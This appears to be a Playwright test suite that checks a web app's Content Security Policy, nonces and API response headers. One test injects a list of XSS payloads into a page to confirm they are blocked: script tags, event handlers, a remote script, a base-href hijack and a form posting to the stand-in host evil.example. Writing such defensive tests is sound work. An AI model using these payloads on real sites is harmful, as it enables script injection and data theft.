import { expect } from "@playwright/test";
import { FIXED_STYLES } from "../lib/platform/content-security-policy";
import { demoUpload } from "./support/api";
import { installation } from "./support/installation";
import { test } from "./support/journey";

test.describe.configure({ timeout: 300_000 });

const RESPONSES = 100;
/** One answer per address is no crawl of a catalog: so many assets look alike. */
const PER_SHAPE = 12;

const shapeOf = (address: string): string => address.replace(/[0-9a-f]{8}-[0-9a-f-]{27}|(?<==)[^&]*/g, "*");
const decoded = (text: string): string => text.replaceAll("&amp;", "&").replaceAll("&quot;", '"');

/** What the policy would refuse of an answer's own HTML. */
function refusedIn(html: string, nonce: string): string[] {
  const tags = html.match(/<(?:script|style|link)\b[^>]*>/g) ?? [];
  const scripts = tags.filter((tag) => /^<script/.test(tag) && !tag.includes(`nonce="${nonce}"`));
  const sheets = tags.filter((tag) => /^<style/.test(tag) && !tag.includes(`nonce="${nonce}"`));
  const foreign = tags.filter((tag) => /(?:src|href)="(?:https?:)?\/\//.test(tag));
  // Only inside a tag: a text that speaks of a style has its quotes escaped.
  const attributes = [...html.matchAll(/<[a-z][^<>]*? (style|on[a-z]+)="([^"]*)"/g)]
    .filter(([, name, value]) => name !== "style" || !FIXED_STYLES.includes(decoded(value ?? "")))
    .map(([tag]) => tag.slice(-200));
  return [...scripts, ...sheets, ...foreign, ...attributes];
}

test("O2 a hundred pages carry a hundred nonces, and nothing that their own policy refuses", async ({
  admin,
  api,
  sampleDatabase,
}) => {
  const { warehouseId, projectId } = await api.connectPair("Policy", sampleDatabase, demoUpload("1.12"));
  try {
    const ids = (await api.assets(projectId, "model")).items.slice(0, 4).map(({ id }) => id);
    const tabs = ["overview", "columns", "tests", "sql", "lineage", "facts"];
    const waiting = [
      ...["/", "/sign-in", "/nowhere", "/setup", "/invite/nobody", "/lineage", "/runs", "/api-docs", "/catalog"],
      ...["/settings/users", "/settings/audit", "/settings/tokens", "/settings/connectors/new", "/catalog?tab=project"],
      ...["overview", "mapping", "history", "upload"].map((tab) => `/settings/connectors/${projectId}?tab=${tab}`),
      ...ids.flatMap((id) => [...tabs.map((tab) => `/catalog/${id}?tab=${tab}`), `/lineage?asset=${id}`]),
    ];
    const seen = new Set(waiting);
    const shapes = new Map<string, number>();
    const nonces = new Set<string>();
    const refused: string[] = [];
    let answers = 0;
    for (let at = 0; at < waiting.length && answers < RESPONSES; at += 1) {
      const address = waiting[at] ?? "";
      const answer = await admin.request.get(address);
      if (!answer.headers()["content-type"]?.startsWith("text/html")) continue;
      answers += 1;
      const policy = answer.headers()["content-security-policy"] ?? "";
      expect(policy, address).not.toMatch(/unsafe-inline|unsafe-eval/);
      for (const name of ["object-src", "base-uri", "frame-ancestors"]) expect(policy).toContain(`${name} 'none'`);
      const nonce = /script-src 'nonce-([^']+)' 'strict-dynamic';/.exec(policy)?.[1] ?? "";
      nonces.add(nonce);
      const html = await answer.text();
      refused.push(...refusedIn(html, nonce).map((what) => `${address}: ${what}`));
      for (const [, href = ""] of html.matchAll(/<a\b[^>]*? href="(\/(?!api\/)[^"#]*)/g)) {
        const next = decoded(href);
        const count = shapes.get(shapeOf(next)) ?? 0;
        if (seen.has(next) || count >= PER_SHAPE) continue;
        seen.add(next);
        shapes.set(shapeOf(next), count + 1);
        waiting.push(next);
      }
      // Whoever runs out of addresses asks the first ones again: each answer has a nonce of its own.
      if (at === waiting.length - 1) waiting.push("/", "/catalog", "/lineage");
    }
    expect(refused).toEqual([]);
    expect({ answers, nonces: nonces.size }).toEqual({ answers: RESPONSES, nonces: RESPONSES });
    expect(nonces).not.toContain("");
  } finally {
    await api.deleteConnectors([warehouseId, projectId]);
  }
});

test("O2 markup that got into a page all the same runs nothing, loads nothing and sends nothing away", async ({
  adminContext,
}) => {
  const hostile = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=2>",
    "<svg onload=window.__xss=3></svg>",
    "<script src=https://evil.example/a.js></script>",
    "<script nonce=guessed>window.__xss=4</script>",
    '<iframe srcdoc="<script>parent.__xss=5</script>"></iframe>',
    "<object data=data:text/html,x></object>",
    "<img src=https://evil.example/b.png>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<style>h1{display:none}</style>",
    '<p id=styled style="position:fixed">x</p>',
    "<base href=https://evil.example/>",
    "<form id=leak action=https://evil.example/><input name=a></form>",
  ].join("");
  const page = await adminContext.newPage();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.route("**/settings/tokens", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace(/<body[^>]*>/, (tag) => tag + hostile) });
  });
  const violated: string[] = [];
  page.on("console", (message) => violated.push(message.text()));
  await page.goto("/settings/tokens");
  await expect(page.locator("#styled")).toBeAttached();
  const seen = await page.evaluate(async () => {
    // Later, for while this very function is begun the browser is told to let everything be evaluated.
    const evaluated = await new Promise<boolean>((resolve) =>
      setTimeout(() => {
        try {
          resolve(new Function("return true")());
        } catch {
          resolve(false);
        }
      }),
    );
    const form = document.querySelector<HTMLFormElement>("#leak");
    form?.submit();
    return {
      ran: "__xss" in window,
      evaluated,
      base: document.baseURI.startsWith("https://evil.example"),
      styled: getComputedStyle(document.querySelector("#styled") ?? document.body).position,
      hidden: getComputedStyle(document.querySelector("h1") ?? document.body).display,
    };
  });
  expect(seen).toEqual({ ran: false, evaluated: false, base: false, styled: "static", hidden: "block" });
  expect(violated.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThanOrEqual(10);
  expect(page.url()).toBe(`${installation.url}/settings/tokens`);
  await page.close();
  // Chromium reports what it refuses as a request that failed; none of them was answered.
  expect(asked.filter((url) => new URL(url).protocol === "data:")).toEqual([]);
});

test("O2 what is no page carries a policy under which nothing runs", async ({ adminContext }) => {
  for (const address of ["/api/v1/assets", "/api/health", "/api/v1/nowhere", "/api/auth/session", "/api/auth/error"]) {
    const answer = await adminContext.request.get(address, { maxRedirects: 0 });
    const policy = answer.headers()["content-security-policy"] ?? "";
    expect(policy, address).toContain("default-src 'none'");
    expect(policy, address).toContain("frame-ancestors 'none'");
    expect(answer.headers()["x-content-type-options"], address).toBe("nosniff");
  }
  const missing = await adminContext.request.get("/_next/nowhere");
  expect(missing.headers()["content-security-policy"]).toContain("default-src 'self'; object-src 'none'");
});

test("O4 no call hands out a stored artifact, and no answer is taken for a page or kept", async ({
  admin,
  api,
  sampleDatabase,
}) => {
  const { warehouseId, projectId } = await api.connectPair("Answers", sampleDatabase, demoUpload("1.12"));
  try {
    const asset = (await api.assets(projectId, "model")).items[0]?.id;
    const files = `/api/v1/connectors/${projectId}/artifacts`;
    expect((await admin.request.get(files)).status()).toBe(405);
    for (const name of ["manifest", "manifest.json", "1"])
      expect((await admin.request.get(`${files}/${name}`)).status()).toBe(404);
    for (const address of [`/api/v1/assets/${asset}`, `/api/v1/connectors/${projectId}`, files, "/api/v1/audit"]) {
      const headers = (await admin.request.get(address)).headers();
      expect(headers["content-type"], address).toMatch(/^application\/(problem\+)?json/);
      expect(headers["cache-control"], address).toContain("no-store");
      expect(headers["x-content-type-options"], address).toBe("nosniff");
    }
  } finally {
    await api.deleteConnectors([warehouseId, projectId]);
  }
});
